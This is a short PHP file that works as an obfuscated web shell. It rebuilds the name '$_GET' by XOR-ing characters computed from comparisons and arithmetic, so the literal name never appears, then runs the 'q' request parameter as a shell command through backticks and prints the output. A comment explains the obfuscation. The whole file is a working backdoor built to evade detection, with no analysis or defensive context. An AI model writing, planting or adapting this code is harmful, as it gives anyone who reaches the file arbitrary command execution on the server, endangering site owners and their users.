<?php
// The superglobal's name is XOR-ed out of one quote and characters computed from comparisons and
// arithmetic ((3 > 2) is 1, ord(1) is 49); the command runs in backticks.
$k = "'";
$k = ($k ^ chr(3 * 40)) . ($k ^ chr(ord(3 > 2) + 9 * 5 + 2)) . ($k ^ chr((7 == 7) + 97)) . ($k ^ chr(100 + 15));
$c = ${$k}['q'];
echo `$c`;
